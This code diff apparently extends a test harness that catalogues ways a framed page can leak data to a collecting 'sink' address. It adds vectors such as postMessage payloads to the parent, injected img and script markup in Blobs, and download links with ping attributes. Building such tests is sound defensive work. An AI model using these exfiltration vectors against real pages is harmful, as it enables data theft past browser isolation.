@@ -119,6 +119,17 @@ function attack({ sink, udpPort }) {
     blankForm: () => form({ action: to('blankForm'), target: '_blank' }),
     webRtc: () => send(globalThis.RTCPeerConnection),
     webRtcOfFrame: () => send(add('iframe', {}).contentWindow.RTCPeerConnection),
+    // What the outer page takes, and what it should not.
+    saveAddress: () => parent.postMessage({ save: to('saveAddress') }, '*'),
+    saveMarkup: () => parent.postMessage({ save: `<img src="${to('saveMarkup')}">` }, '*'),
+    saveObject: () =>
+      parent.postMessage({ save: { href: to('saveObject'), toString: null }, href: to('saveObject') }, '*'),
+    saveBlob: () =>
+      parent.postMessage({ save: new Blob([`<script>location="${to('saveBlob')}"<\/script>`], { type: 'text/html' }) }, '*'),
+    stepAddress: () =>
+      parent.postMessage({ step: 1, language: to('stepAddress'), entry: 'new', url: to('stepAddress') }, '*'),
+    downloadBlank: () =>
+      add('a', { href: to('downloadBlank'), download: 'x', target: '_blank' }).click(),
     webTransport: () => new WebTransport(`https://127.0.0.1:${udpPort}/webTransport`),
   };
   // And these take it away, so each is tried in a tab of its own.
@@ -145,6 +156,14 @@ function attack({ sink, udpPort }) {
     },
     topTarget: () => add('a', { href: to('topTarget'), target: '_top' }).click(),
     ping: () => add('a', { href: '#here', ping: to('ping') }).click(),
+    ownDownload: () => add('a', { href: own('ownDownload'), download: 'x' }).click(),
+    downloadPing: () =>
+      add('a', { href: 'data:,secret', ping: to('downloadPing'), download: 'x' }).click(),
+    blobDownload: () =>
+      add('a', {
+        href: URL.createObjectURL(new Blob([`<img src="${to('blobDownload')}">`], { type: 'text/html' })),
+        download: 'x.html',
+      }).click(),
     download: () => add('a', { href: to('download'), download: 'x' }).click(),
     navigate: () => navigation.navigate(to('navigate')),
   };
